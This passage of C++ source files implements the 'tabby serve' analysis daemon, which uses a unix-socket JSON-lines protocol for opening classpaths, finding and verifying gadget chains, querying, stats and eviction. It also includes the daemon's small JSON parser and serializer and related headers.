      if (errno == EINTR) continue;
      return false;
    }
    off += static_cast<std::size_t>(n);
  }
  return true;
}

/// The per-request ExecContext, decoded from protocol fields. Deadlines are
/// anchored here — at dispatch — so a request queued behind a slow neighbour
/// still gets its full allowance once it actually starts.
pipeline::ExecContext context_from(const Json& request, int default_workers) {
  pipeline::ExecContext ctx;
  if (request.has("deadline_ms")) {
    ctx.deadline = util::Deadline::after(
        std::chrono::milliseconds(static_cast<long long>(request.num("deadline_ms"))));
  }
  if (request.has("load_ms")) {
    ctx.load_budget = std::chrono::milliseconds(static_cast<long long>(request.num("load_ms")));
  }
  if (request.has("finder_ms")) {
    ctx.finder_budget =
        std::chrono::milliseconds(static_cast<long long>(request.num("finder_ms")));
  }
  ctx.policy = request.flag("strict") ? pipeline::FailurePolicy::kStrict
                                      : pipeline::FailurePolicy::kQuarantine;
  ctx.max_depth = static_cast<int>(request.num("depth", 12));
  ctx.frontier_byte_pool = static_cast<std::size_t>(request.num("frontier_pool", 0));
  ctx.use_planner = !request.flag("no_plan");
  ctx.workers = static_cast<int>(request.num("workers", default_workers));
  ctx.verify = request.flag("verify");
  ctx.verify_workers = static_cast<int>(request.num("verify_workers", 0));
  if (request.has("verify_ms")) {
    ctx.verify_budget = std::chrono::milliseconds(static_cast<long long>(request.num("verify_ms")));
  }
  return ctx;
}

/// The exact per-sink degradation lines `tabby find` prints on stderr
/// (finder::degraded_line is the single shared rendering).
std::vector<std::string> degraded_lines(const finder::FinderReport& report) {
  std::vector<std::string> lines;
  lines.reserve(report.partial_sinks.size());
  for (const finder::PartialSink& sink : report.partial_sinks) {
    lines.push_back(finder::degraded_line(sink));
  }
  return lines;
}

class Daemon {
 public:
  explicit Daemon(ServeOptions options) : default_workers_(options.default_workers) {
    pipeline::EngineOptions engine_options = std::move(options.engine);
    auto chained = std::move(engine_options.on_evict);
    engine_options.on_evict = [this, chained](std::uint64_t fingerprint, std::size_t bytes) {
      evictions_.fetch_add(1, std::memory_order_relaxed);
      obs::counter_add("serve.evictions");
      if (chained) chained(fingerprint, bytes);
    };
    engine_ = std::make_unique<pipeline::Engine>(std::move(engine_options));
  }

  util::Status run(const std::string& socket_path, std::ostream& out, std::ostream& err);

 private:
  void serve_connection(int fd);
  std::string handle_line(const std::string& line);
  Json dispatch(const Json& request);

  Json op_open(const Json& request);
  Json op_find(const Json& request);
  Json op_query(const Json& request);
  Json op_stats() const;
  Json op_evict(const Json& request);
  Json op_shutdown();

  /// Opens (with admission control) and maps failures onto the protocol
  /// error taxonomy; `error_out` is the ready-to-send error response.
  util::Result<pipeline::AnalysisPtr> open_for(const Json& request,
                                               const pipeline::ExecContext& ctx,
                                               pipeline::OpenOptions opts, Json& error_out);

  static Json error_response(const std::string& kind, const std::string& message) {
    Json response = Json::object();
    response.set("ok", false);
    response.set("kind", kind);
    response.set("error", message);
    return response;
  }

  std::unique_ptr<pipeline::Engine> engine_;
  int default_workers_ = 0;
  std::atomic<bool> stop_{false};
  int listen_fd_ = -1;
  std::atomic<std::uint64_t> requests_{0};
  std::atomic<std::uint64_t> completed_{0};
  std::atomic<std::uint64_t> failpoint_failures_{0};
  std::atomic<std::uint64_t> evictions_{0};
  std::atomic<std::uint64_t> audits_{0};
  std::atomic<int> in_flight_{0};
  std::uint64_t last_audited_ = 0;  // audit thread only
};

util::Status Daemon::run(const std::string& socket_path, std::ostream& out, std::ostream& err) {
  // A client vanishing mid-response must surface as EPIPE from write(2), not
  // kill the daemon; ditto for the dist worker pipes forked under a find.
  util::ignore_sigpipe();
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (socket_path.size() >= sizeof(addr.sun_path)) {
    return util::Error{"socket path too long: " + socket_path};
  }
  std::memcpy(addr.sun_path, socket_path.c_str(), socket_path.size() + 1);

  int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) return util::Error{"cannot create socket: " + std::string(std::strerror(errno))};
  ::unlink(socket_path.c_str());  // a stale socket file from a dead daemon
  if (::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    int saved = errno;
    ::close(fd);
    return util::Error{"cannot bind " + socket_path + ": " + std::strerror(saved)};
  }
  if (::listen(fd, 16) != 0) {
    int saved = errno;
    ::close(fd);
    ::unlink(socket_path.c_str());
    return util::Error{"cannot listen on " + socket_path + ": " + std::strerror(saved)};
  }
  listen_fd_ = fd;

  // Opportunistic cache audit: between requests (no request in flight, and
  // at least one completed since the last pass) re-validate the cache
  // directory so corrupt or orphaned entries are spotted while the daemon
  // idles rather than on some future cold start.
  std::thread auditor;
  if (!engine_->options().cache_dir.empty()) {
    auditor = std::thread([this] {
      while (!stop_.load(std::memory_order_relaxed)) {
        std::this_thread::sleep_for(std::chrono::milliseconds(100));
        std::uint64_t done = completed_.load(std::memory_order_relaxed);
        if (in_flight_.load(std::memory_order_relaxed) != 0 || done == last_audited_) continue;
        auto report = cache::audit_cache(engine_->options().cache_dir, /*prune=*/false);
        (void)report;  // findings surface via the stats op / next `tabby cache`
        last_audited_ = done;
        audits_.fetch_add(1, std::memory_order_relaxed);
        obs::counter_add("serve.audits");
      }
    });
  }

  out << "serving on " << socket_path << "\n" << std::flush;

  std::vector<std::thread> connections;
  while (!stop_.load(std::memory_order_relaxed)) {
    int conn = ::accept(fd, nullptr, nullptr);
    if (conn < 0) {
      if (errno == EINTR) continue;
      if (!stop_.load(std::memory_order_relaxed)) {
        err << "serve: accept failed: " << std::strerror(errno) << "\n";
      }
      break;
    }
    connections.emplace_back(&Daemon::serve_connection, this, conn);
  }

  for (std::thread& t : connections) t.join();
  if (auditor.joinable()) {
    stop_.store(true, std::memory_order_relaxed);
    auditor.join();
  }
  ::close(fd);
  ::unlink(socket_path.c_str());
  return util::Status::ok_status();
}

void Daemon::serve_connection(int fd) {
  std::string buffer;
  char chunk[4096];
  while (true) {
    std::size_t newline;
    while ((newline = buffer.find('\n')) == std::string::npos) {
      ssize_t n = ::read(fd, chunk, sizeof chunk);
      if (n < 0 && errno == EINTR) continue;
      if (n <= 0) {
        ::close(fd);
        return;
      }
      buffer.append(chunk, static_cast<std::size_t>(n));
    }
    std::string line = buffer.substr(0, newline);
    buffer.erase(0, newline + 1);
    std::string response = handle_line(line);
    response += '\n';
    if (!write_all(fd, response)) {
      ::close(fd);
      return;
    }
  }
}

std::string Daemon::handle_line(const std::string& line) {
  obs::Span span("serve.request");
  requests_.fetch_add(1, std::memory_order_relaxed);
  in_flight_.fetch_add(1, std::memory_order_relaxed);
  Json response;
  std::optional<Json> request = Json::parse(line);
  if (!request || !request->is_object()) {
    response = error_response("usage", "malformed request: not a JSON object");
  } else if (util::failpoint::poll("serve.request")) {
    // The chaos seam: one request dies mid-flight with a structured error;
    // the daemon must answer the NEXT request cleanly (CI proves it does).
    failpoint_failures_.fetch_add(1, std::memory_order_relaxed);
    obs::counter_add("serve.request_failpoints");
    response = error_response("internal", "failpoint serve.request fired");
  } else {
    try {
      response = dispatch(*request);
    } catch (const std::exception& e) {
      // A request may fault; the daemon never does.
      response = error_response("internal", std::string("unhandled exception: ") + e.what());
    }
  }
  if (request && request->is_object()) {
    if (const Json* id = request->find("id")) response.set("id", *id);
  }
  in_flight_.fetch_sub(1, std::memory_order_relaxed);
  completed_.fetch_add(1, std::memory_order_relaxed);
  return response.dump();
}

Json Daemon::dispatch(const Json& request) {
  std::string op = request.str("op");
  if (op == "open") return op_open(request);
  if (op == "find") return op_find(request);
  if (op == "query") return op_query(request);
  if (op == "stats") return op_stats();
  if (op == "evict") return op_evict(request);
  if (op == "shutdown") return op_shutdown();
  return error_response("usage", "unknown op: " + (op.empty() ? "(missing)" : op));
}

util::Result<pipeline::AnalysisPtr> Daemon::open_for(const Json& request,
                                                     const pipeline::ExecContext& ctx,
                                                     pipeline::OpenOptions opts,
                                                     Json& error_out) {
  std::vector<std::string> classpath = request.strings("classpath");
  if (classpath.empty()) {
    error_out = error_response("usage", "request needs a non-empty \"classpath\" array");
    return util::Error{"usage"};
  }
  opts.require_admission = true;
  if (request.has("use_frozen")) opts.use_frozen = request.flag("use_frozen");
  auto analysis = engine_->open(classpath, ctx, opts);
  if (!analysis.ok()) {
    error_out = pipeline::is_over_capacity(analysis.error())
                    ? error_response("over-capacity", analysis.error().message)
                    : error_response("not-found", analysis.error().to_string());
    return analysis.error();
  }
  return analysis;
}

Json Daemon::op_open(const Json& request) {
  pipeline::ExecContext ctx = context_from(request, default_workers_);
  pipeline::OpenOptions opts;
  opts.need_graph_bytes = request.flag("need_graph_bytes");
  Json error_out;
  auto analysis = open_for(request, ctx, opts, error_out);
  if (!analysis.ok()) return error_out;
  const pipeline::Outcome& outcome = analysis.value()->outcome();

  Json response = Json::object();
  response.set("ok", true);
  response.set("fingerprint", hex64(analysis.value()->fingerprint()));
  response.set("warm", outcome.warm);
  response.set("resident", analysis.value()->fingerprint() != 0);
  response.set("resident_bytes", static_cast<std::uint64_t>(analysis.value()->resident_bytes()));
  response.set("classes", static_cast<std::uint64_t>(outcome.stats.class_nodes));
  response.set("methods", static_cast<std::uint64_t>(outcome.stats.method_nodes));
  response.set("edges", static_cast<std::uint64_t>(outcome.stats.relationship_edges));
  response.set("call_edges", static_cast<std::uint64_t>(outcome.stats.call_edges));
  response.set("alias_edges", static_cast<std::uint64_t>(outcome.stats.alias_edges));
  response.set("sources", static_cast<std::uint64_t>(outcome.stats.source_methods));
  response.set("sinks", static_cast<std::uint64_t>(outcome.stats.sink_methods));
  response.set("pruned", static_cast<std::uint64_t>(outcome.stats.pruned_call_sites));
  response.set("frozen", outcome.frozen.has_value());
  response.set("degraded", outcome.degradation.degraded());
  if (!outcome.cache_line.empty()) response.set("cache_line", outcome.cache_line);
  Json warnings = Json::array();
  for (const std::string& warning : outcome.warnings) warnings.push(Json::string(warning));
  response.set("warnings", std::move(warnings));
  return response;
}

Json Daemon::op_find(const Json& request) {
  pipeline::ExecContext ctx = context_from(request, default_workers_);
  Json error_out;
  pipeline::OpenOptions opts;
  opts.need_program = ctx.verify;  // the verify post-pass replays chains in the VM
  auto analysis = open_for(request, ctx, opts, error_out);
  if (!analysis.ok()) return error_out;
  pipeline::FindResult result = analysis.value()->find(ctx);
  const pipeline::Outcome& outcome = analysis.value()->outcome();

  // The exact bytes `tabby find` prints for the same request (the header's
  // search time is wall clock — CI filters it the same way it already does
  // for warm-vs-cold comparisons).
  std::string text = std::to_string(result.report.chains.size()) + " gadget chain(s), " +
                     util::format_double(result.report.search_seconds, 3) + " s search\n\n";
  for (std::size_t i = 0; i < result.report.chains.size(); ++i) {
    text += result.report.chains[i].to_string();
    if (result.verified) {
      text += "  auto-verify: " + finder::verdict_line(result.verify.verdicts[i]) + "\n";
    }
    text += "\n";
  }
  if (result.verified) {
    text += std::to_string(result.verify.effective) + "/" +
            std::to_string(result.report.chains.size()) + " chains confirmed effective";
    if (result.verify.unconfirmed > 0) {
      text += ", " + std::to_string(result.verify.unconfirmed) + " unconfirmed";
    }
    text += "\n";
  }

  Json response = Json::object();
  response.set("ok", true);
  response.set("fingerprint", hex64(analysis.value()->fingerprint()));
  response.set("chains", static_cast<std::uint64_t>(result.report.chains.size()));
  response.set("partial", static_cast<std::uint64_t>(result.report.partial_sinks.size()));
  response.set("used_frozen", result.used_frozen);
  response.set("degraded", result.degradation.degraded());
  response.set("text", std::move(text));
  if (result.verified) {
    response.set("verified", true);
    response.set("effective", static_cast<std::uint64_t>(result.verify.effective));
    response.set("refuted", static_cast<std::uint64_t>(result.verify.refuted));
    response.set("unconfirmed", static_cast<std::uint64_t>(result.verify.unconfirmed));
    response.set("verify_cache_hits", static_cast<std::uint64_t>(result.verify.cache_hits));
  }
  if (!outcome.cache_line.empty()) response.set("cache_line", outcome.cache_line);
  Json warnings = Json::array();
  for (const std::string& warning : outcome.warnings) warnings.push(Json::string(warning));
  response.set("warnings", std::move(warnings));
  Json degraded = Json::array();
  for (const std::string& line : degraded_lines(result.report)) degraded.push(Json::string(line));
  if (result.verified) {
    // One line per undecided chain, in chain order — the same bytes the
    // one-shot CLI prints on stderr.
    for (std::size_t i = 0; i < result.report.chains.size(); ++i) {
      const finder::ChainVerdict& verdict = result.verify.verdicts[i];
      if (verdict.verdict == finder::Verdict::Unconfirmed) {
        degraded.push(
            Json::string(finder::degraded_line(result.report.chains[i], verdict)));
      }
    }
  }
  response.set("degraded_lines", std::move(degraded));
  return response;
}

Json Daemon::op_query(const Json& request) {
  std::string query_text = request.str("text");
  if (query_text.empty()) {
    return error_response("usage", "request needs a non-empty \"text\" query string");
  }
  pipeline::ExecContext ctx = context_from(request, default_workers_);
  Json error_out;
  auto analysis = open_for(request, ctx, {}, error_out);
  if (!analysis.ok()) return error_out;
  auto result = analysis.value()->query(query_text, ctx);
  if (!result.ok()) return error_response("query", result.error().to_string());
  const pipeline::Outcome& outcome = analysis.value()->outcome();

  Json response = Json::object();
  response.set("ok", true);
  response.set("fingerprint", hex64(analysis.value()->fingerprint()));
  response.set("rows", static_cast<std::uint64_t>(result.value().rows.size()));
  response.set("text", analysis.value()->render(result.value()));
  if (request.flag("explain")) response.set("plan", result.value().plan);
  response.set("degraded", outcome.degradation.degraded());
  if (!outcome.cache_line.empty()) response.set("cache_line", outcome.cache_line);
  Json warnings = Json::array();
  for (const std::string& warning : outcome.warnings) warnings.push(Json::string(warning));
  response.set("warnings", std::move(warnings));
  return response;
}

Json Daemon::op_stats() const {
  pipeline::EngineStats stats = engine_->stats();
  Json response = Json::object();
  response.set("ok", true);
  response.set("requests", requests_.load(std::memory_order_relaxed));
  response.set("in_flight", static_cast<std::uint64_t>(in_flight_.load(std::memory_order_relaxed)));
  response.set("failpoint_failures", failpoint_failures_.load(std::memory_order_relaxed));
  response.set("opens", stats.opens);
  response.set("resident_hits", stats.resident_hits);
  response.set("evictions", evictions_.load(std::memory_order_relaxed));
  response.set("over_capacity", stats.over_capacity);
  response.set("audits", audits_.load(std::memory_order_relaxed));
  response.set("resident_bytes", static_cast<std::uint64_t>(stats.resident_bytes));
  response.set("budget_bytes", static_cast<std::uint64_t>(stats.budget_bytes));
  // Worker-pool churn (all zero until a --workers find runs): operators see
  // respawn/reassignment rates here without collecting trace files.
  response.set("dist_workers_spawned", stats.dist_workers_spawned);
  response.set("dist_respawns", stats.dist_respawns);
  response.set("dist_crashes", stats.dist_crashes);
  response.set("dist_retries", stats.dist_retries);
  response.set("dist_reassignments", stats.dist_reassignments);
  response.set("dist_heartbeat_misses", stats.dist_heartbeat_misses);
  Json resident = Json::array();
  for (const pipeline::EngineStats::Resident& entry : stats.entries) {
    Json row = Json::object();
    row.set("fingerprint", hex64(entry.fingerprint));
    row.set("bytes", static_cast<std::uint64_t>(entry.bytes));
    row.set("hits", entry.hits);
    resident.push(std::move(row));
  }
  response.set("resident", std::move(resident));
  return response;
}

Json Daemon::op_evict(const Json& request) {
  std::size_t evicted = 0;
  if (request.flag("all")) {
    evicted = engine_->evict_all();
  } else {
    std::optional<std::uint64_t> fingerprint = parse_hex64(request.str("fingerprint"));
    if (!fingerprint) {
      return error_response("usage", "evict needs \"all\":true or a 16-hex-digit \"fingerprint\"");
    }
    evicted = engine_->evict(*fingerprint) ? 1 : 0;
  }
  Json response = Json::object();
  response.set("ok", true);
  response.set("evicted", static_cast<std::uint64_t>(evicted));
  return response;
}

Json Daemon::op_shutdown() {
  stop_.store(true, std::memory_order_relaxed);
  // Break the accept loop: shutting down a listening socket makes the
  // blocked accept() return immediately.
  ::shutdown(listen_fd_, SHUT_RDWR);
  Json response = Json::object();
  response.set("ok", true);
  response.set("stopping", true);
  return response;
}

}  // namespace

util::Status serve(const std::string& socket_path, ServeOptions options, std::ostream& out,
                   std::ostream& err) {
  Daemon daemon(std::move(options));
  return daemon.run(socket_path, out, err);
}

util::Result<std::string> client_request(const std::string& socket_path,
                                         const std::string& request_line, int connect_retries) {
  util::ignore_sigpipe();  // a daemon dying mid-request is an error, not SIGPIPE
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (socket_path.size() >= sizeof(addr.sun_path)) {
    return util::Error{"socket path too long: " + socket_path};
  }
  std::memcpy(addr.sun_path, socket_path.c_str(), socket_path.size() + 1);

  int fd = -1;
  for (int attempt = 0;; ++attempt) {
    fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) return util::Error{"cannot create socket: " + std::string(std::strerror(errno))};
    if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) == 0) break;
    int saved = errno;
    ::close(fd);
    fd = -1;
    // The daemon may still be starting (no socket file yet, or bound but
    // not listening): retry on the races, fail fast on anything else.
    if ((saved == ENOENT || saved == ECONNREFUSED) && attempt < connect_retries) {
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
      continue;
    }
    return util::Error{"cannot connect to " + socket_path + ": " + std::strerror(saved)};
  }

  std::string request = request_line;
  request += '\n';
  if (!write_all(fd, request)) {
    int saved = errno;
    ::close(fd);
    return util::Error{"cannot write request: " + std::string(std::strerror(saved))};
  }

  std::string buffer;
  char chunk[4096];
  while (buffer.find('\n') == std::string::npos) {
    ssize_t n = ::read(fd, chunk, sizeof chunk);
    if (n < 0 && errno == EINTR) continue;
    if (n < 0) {
      int saved = errno;
      ::close(fd);
      return util::Error{"cannot read response: " + std::string(std::strerror(saved))};
    }
    if (n == 0) {
      ::close(fd);
      return util::Error{"daemon closed the connection without a response"};
    }
    buffer.append(chunk, static_cast<std::size_t>(n));
  }
  ::close(fd);
  return buffer.substr(0, buffer.find('\n'));
}

}  // namespace tabby::serve
