// `tabby serve` — the resident multi-tenant analysis daemon (docs/SERVING.md).
//
// A long-lived process wraps one pipeline::Engine and answers requests over a
// unix-domain stream socket. The wire protocol is newline-delimited JSON: one
// request object per line in, one response object per line out, per
// connection, with concurrent connections handled on their own threads (the
// heavy lifting inside a request runs on the engine's shared worker pool).
//
// Operations: open / find / query / stats / evict / shutdown. Responses carry
// "ok":true plus op-specific fields, or "ok":false with a "kind" from the
// daemon error taxonomy (usage, over-capacity, not-found, query, internal)
// and a human-readable "error". Opens run with admission control: a tenant
// whose classpath cannot fit in the engine's --mem-budget — even after
// evicting idle LRU analyses — gets a structured over-capacity error, never
// an OOM. Evictions increment serve.evictions (visible in the stats op), and
// the cache directory is audited opportunistically between requests.
//
// The `tabby client` subcommand drives this protocol from the command line;
// find/query responses embed the exact text the one-shot CLI would print, so
// tests and CI can assert byte-equivalence.
#pragma once

#include <iosfwd>
#include <string>

#include "pipeline/engine.hpp"
#include "util/result.hpp"

namespace tabby::serve {

struct ServeOptions {
  /// Engine configuration (jobs, cache_dir, memory budget, max_resident,
  /// with_jdk, use_frozen default). The daemon chains its eviction counter
  /// onto any on_evict already set here.
  pipeline::EngineOptions engine;
  /// Default finder worker processes for requests that do not send their own
  /// "workers" field (`tabby serve --workers N`). 0 = in-process finds. With
  /// workers, each tenant's search runs crash-isolated in forked workers, so
  /// a wild pointer in one find degrades that request instead of killing the
  /// resident daemon (docs/ROBUSTNESS.md, "Process isolation & supervision").
  int default_workers = 0;
};

/// Runs the daemon on `socket_path` until a shutdown request (or a fatal
/// socket error). Prints one "serving on SOCKET" line to `out` once the
/// socket is accepting, diagnostics to `err`. Blocks the calling thread.
util::Status serve(const std::string& socket_path, ServeOptions options, std::ostream& out,
                   std::ostream& err);

/// One client round trip: connect to `socket_path` (retrying while the
/// daemon is still starting), send `request_line` + '\n', return the
/// daemon's response line (without the trailing newline).
util::Result<std::string> client_request(const std::string& socket_path,
                                         const std::string& request_line,
                                         int connect_retries = 50);

}  // namespace tabby::serve
