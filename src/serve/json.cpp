#include "serve/json.hpp"

#include <cctype>
#include <cmath>
#include <cstdio>

namespace tabby::serve {

const Json* Json::find(std::string_view key) const {
  if (kind_ != Kind::Object) return nullptr;
  for (const auto& [name, value] : members_) {
    if (name == key) return &value;
  }
  return nullptr;
}

std::string Json::str(std::string_view key, std::string fallback) const {
  const Json* value = find(key);
  if (value == nullptr || value->kind_ != Kind::String) return fallback;
  return value->string_;
}

double Json::num(std::string_view key, double fallback) const {
  const Json* value = find(key);
  if (value == nullptr || value->kind_ != Kind::Number) return fallback;
  return value->number_;
}

bool Json::flag(std::string_view key, bool fallback) const {
  const Json* value = find(key);
  if (value == nullptr || value->kind_ != Kind::Bool) return fallback;
  return value->bool_;
}

std::vector<std::string> Json::strings(std::string_view key) const {
  std::vector<std::string> out;
  const Json* value = find(key);
  if (value == nullptr || value->kind_ != Kind::Array) return out;
  for (const Json& item : value->items_) {
    if (item.kind_ == Kind::String) out.push_back(item.string_);
  }
  return out;
}

Json& Json::set(std::string key, Json value) {
  kind_ = Kind::Object;
  for (auto& [name, existing] : members_) {
    if (name == key) {
      existing = std::move(value);
      return *this;
    }
  }
  members_.emplace_back(std::move(key), std::move(value));
  return *this;
}

Json& Json::push(Json value) {
  kind_ = Kind::Array;
  items_.push_back(std::move(value));
  return *this;
}

namespace {

void escape_into(const std::string& text, std::string& out) {
  out += '"';
  for (char c : text) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x", static_cast<unsigned>(c));
          out += buf;
        } else {
          out += c;
        }
    }
  }
  out += '"';
}

void number_into(double value, std::string& out) {
  // Protocol numbers are counts and byte sizes: emit integers without a
  // decimal point so responses are deterministic and grep-able.
  if (value == std::floor(value) && std::abs(value) < 9.007199254740992e15) {
    out += std::to_string(static_cast<long long>(value));
    return;
  }
  char buf[32];
  std::snprintf(buf, sizeof buf, "%.17g", value);
  out += buf;
}

}  // namespace

std::string Json::dump() const {
  std::string out;
  switch (kind_) {
    case Kind::Null: out = "null"; break;
    case Kind::Bool: out = bool_ ? "true" : "false"; break;
    case Kind::Number: number_into(number_, out); break;
    case Kind::String: escape_into(string_, out); break;
    case Kind::Array: {
      out = "[";
      bool first = true;
      for (const Json& item : items_) {
        if (!first) out += ',';
        first = false;
        out += item.dump();
      }
      out += ']';
      break;
    }
    case Kind::Object: {
      out = "{";
      bool first = true;
      for (const auto& [name, value] : members_) {
        if (!first) out += ',';
        first = false;
        escape_into(name, out);
        out += ':';
        out += value.dump();
      }
      out += '}';
      break;
    }
  }
  return out;
}

namespace {

class Parser {
 public:
  explicit Parser(std::string_view text) : text_(text) {}

  std::optional<Json> parse() {
    std::optional<Json> value = parse_value();
    if (!value) return std::nullopt;
    skip_ws();
    if (pos_ != text_.size()) return std::nullopt;  // trailing junk
    return value;
  }

 private:
  void skip_ws() {
    while (pos_ < text_.size() && std::isspace(static_cast<unsigned char>(text_[pos_]))) ++pos_;
  }
  bool eat(char c) {
    skip_ws();
    if (pos_ < text_.size() && text_[pos_] == c) {
      ++pos_;
      return true;
    }
    return false;
  }
  bool literal(const char* word) {
    std::string_view w(word);
    if (text_.substr(pos_, w.size()) != w) return false;
    pos_ += w.size();
    return true;
  }

  std::optional<std::string> parse_string() {
    if (!eat('"')) return std::nullopt;
    std::string out;
    while (pos_ < text_.size()) {
      char c = text_[pos_++];
      if (c == '"') return out;
      if (c == '\\') {
        if (pos_ >= text_.size()) return std::nullopt;
        char esc = text_[pos_++];
        switch (esc) {
          case '"': out += '"'; break;
          case '\\': out += '\\'; break;
          case '/': out += '/'; break;
          case 'b': out += '\b'; break;
          case 'f': out += '\f'; break;
          case 'n': out += '\n'; break;
          case 'r': out += '\r'; break;
          case 't': out += '\t'; break;
          case 'u': {
            if (pos_ + 4 > text_.size()) return std::nullopt;
            unsigned code = 0;
            for (int i = 0; i < 4; ++i) {
              char h = text_[pos_ + i];
              code <<= 4;
              if (h >= '0' && h <= '9') code |= static_cast<unsigned>(h - '0');
              else if (h >= 'a' && h <= 'f') code |= static_cast<unsigned>(h - 'a' + 10);
              else if (h >= 'A' && h <= 'F') code |= static_cast<unsigned>(h - 'A' + 10);
              else return std::nullopt;
            }
            pos_ += 4;
            // The protocol only escapes control characters; anything else
            // round-trips as UTF-8 bytes already.
            if (code < 0x80) {
              out += static_cast<char>(code);
            } else {
              out += static_cast<char>(0xC0 | (code >> 6));
              out += static_cast<char>(0x80 | (code & 0x3F));
            }
            break;
          }
          default: return std::nullopt;
        }
      } else if (static_cast<unsigned char>(c) < 0x20) {
        return std::nullopt;
      } else {
        out += c;
      }
    }
    return std::nullopt;  // unterminated
  }

  std::optional<Json> parse_value() {
    skip_ws();
    if (pos_ >= text_.size()) return std::nullopt;
    char c = text_[pos_];
    if (c == '{') {
      ++pos_;
      Json value = Json::object();
      if (eat('}')) return value;
      while (true) {
        skip_ws();
        auto key = parse_string();
        if (!key || !eat(':')) return std::nullopt;
        auto member = parse_value();
        if (!member) return std::nullopt;
        value.set(std::move(*key), std::move(*member));
        if (eat(',')) continue;
        if (eat('}')) return value;
        return std::nullopt;
      }
    }
    if (c == '[') {
      ++pos_;
      Json value = Json::array();
      if (eat(']')) return value;
      while (true) {
        auto element = parse_value();
        if (!element) return std::nullopt;
        value.push(std::move(*element));
        if (eat(',')) continue;
        if (eat(']')) return value;
        return std::nullopt;
      }
    }
    if (c == '"') {
      auto s = parse_string();
      if (!s) return std::nullopt;
      return Json::string(std::move(*s));
    }
    if (literal("true")) return Json::boolean(true);
    if (literal("false")) return Json::boolean(false);
    if (literal("null")) return Json();
    std::size_t start = pos_;
    if (pos_ < text_.size() && text_[pos_] == '-') ++pos_;
    while (pos_ < text_.size() &&
           (std::isdigit(static_cast<unsigned char>(text_[pos_])) || text_[pos_] == '.' ||
            text_[pos_] == 'e' || text_[pos_] == 'E' || text_[pos_] == '+' || text_[pos_] == '-')) {
      ++pos_;
    }
    if (pos_ == start) return std::nullopt;
    try {
      return Json::number(std::stod(std::string(text_.substr(start, pos_ - start))));
    } catch (...) {
      return std::nullopt;
    }
  }

  std::string_view text_;
  std::size_t pos_ = 0;
};

}  // namespace

std::optional<Json> Json::parse(std::string_view text) { return Parser(text).parse(); }

std::string hex64(std::uint64_t value) {
  char buf[17];
  std::snprintf(buf, sizeof buf, "%016llx", static_cast<unsigned long long>(value));
  return buf;
}

std::optional<std::uint64_t> parse_hex64(std::string_view text) {
  if (text.size() != 16) return std::nullopt;
  std::uint64_t value = 0;
  for (char c : text) {
    value <<= 4;
    if (c >= '0' && c <= '9') value |= static_cast<std::uint64_t>(c - '0');
    else if (c >= 'a' && c <= 'f') value |= static_cast<std::uint64_t>(c - 'a' + 10);
    else return std::nullopt;
  }
  return value;
}

}  // namespace tabby::serve
