// Minimal owned JSON value for the `tabby serve` wire protocol
// (docs/SERVING.md): newline-delimited single-line documents, objects with
// insertion-ordered keys so responses serialize deterministically.
//
// Deliberately small: objects, arrays, strings, doubles (integers emitted
// without a decimal point), bools, null. 64-bit identifiers (classpath
// fingerprints) travel as fixed-width hex STRINGS — a double cannot carry
// all 64 bits and this parser does not try. Not a general-purpose JSON
// library; the daemon and client are its only customers.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

namespace tabby::serve {

class Json {
 public:
  enum class Kind { Null, Bool, Number, String, Array, Object };

  Json() = default;
  static Json object() { return Json(Kind::Object); }
  static Json array() { return Json(Kind::Array); }
  static Json boolean(bool value) {
    Json j(Kind::Bool);
    j.bool_ = value;
    return j;
  }
  static Json number(double value) {
    Json j(Kind::Number);
    j.number_ = value;
    return j;
  }
  static Json string(std::string value) {
    Json j(Kind::String);
    j.string_ = std::move(value);
    return j;
  }

  Kind kind() const { return kind_; }
  bool is_object() const { return kind_ == Kind::Object; }
  bool is_array() const { return kind_ == Kind::Array; }
  bool is_string() const { return kind_ == Kind::String; }

  bool as_bool() const { return bool_; }
  double as_number() const { return number_; }
  const std::string& as_string() const { return string_; }
  const std::vector<Json>& items() const { return items_; }

  // --- object access (all tolerate non-objects / missing keys) ------------
  bool has(std::string_view key) const { return find(key) != nullptr; }
  /// nullptr when absent (or this is not an object).
  const Json* find(std::string_view key) const;
  std::string str(std::string_view key, std::string fallback = "") const;
  double num(std::string_view key, double fallback = 0) const;
  bool flag(std::string_view key, bool fallback = false) const;
  /// Array member as a vector of strings (non-string elements skipped).
  std::vector<std::string> strings(std::string_view key) const;

  // --- builders ------------------------------------------------------------
  Json& set(std::string key, Json value);
  Json& set(std::string key, std::string value) { return set(std::move(key), string(std::move(value))); }
  Json& set(std::string key, const char* value) { return set(std::move(key), string(value)); }
  Json& set(std::string key, bool value) { return set(std::move(key), boolean(value)); }
  Json& set(std::string key, double value) { return set(std::move(key), number(value)); }
  Json& set(std::string key, std::uint64_t value) {
    return set(std::move(key), number(static_cast<double>(value)));
  }
  Json& set(std::string key, std::int64_t value) {
    return set(std::move(key), number(static_cast<double>(value)));
  }
  Json& push(Json value);

  /// Serializes to one line (no raw newlines — they are escaped in strings).
  std::string dump() const;

  /// Strict single-document parse; nullopt on any malformed input.
  static std::optional<Json> parse(std::string_view text);

 private:
  explicit Json(Kind kind) : kind_(kind) {}

  Kind kind_ = Kind::Null;
  bool bool_ = false;
  double number_ = 0;
  std::string string_;
  std::vector<Json> items_;                                // Array
  std::vector<std::pair<std::string, Json>> members_;      // Object, in order
};

/// Fixed-width lowercase hex for 64-bit protocol identifiers.
std::string hex64(std::uint64_t value);
/// Inverse of hex64; nullopt unless exactly 16 hex digits.
std::optional<std::uint64_t> parse_hex64(std::string_view text);

}  // namespace tabby::serve
