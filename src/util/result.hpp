// Lightweight expected-style result type used by parsers and binary readers,
// where failure is a normal outcome (untrusted input) rather than a programming
// error. Exceptions remain the vehicle for contract violations elsewhere.
#pragma once

#include <cassert>
#include <optional>
#include <string>
#include <utility>
